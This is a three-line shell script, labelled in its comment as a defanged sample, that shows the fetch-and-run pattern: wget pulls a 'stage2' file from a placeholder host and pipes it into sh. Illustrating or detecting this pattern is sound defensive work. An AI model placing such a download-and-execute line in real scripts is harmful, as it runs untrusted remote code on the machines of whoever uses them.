#!/bin/sh
# Defanged sample: fetch-and-run in a shipped shell script.
wget -qO- https://example.invalid/stage2 | sh
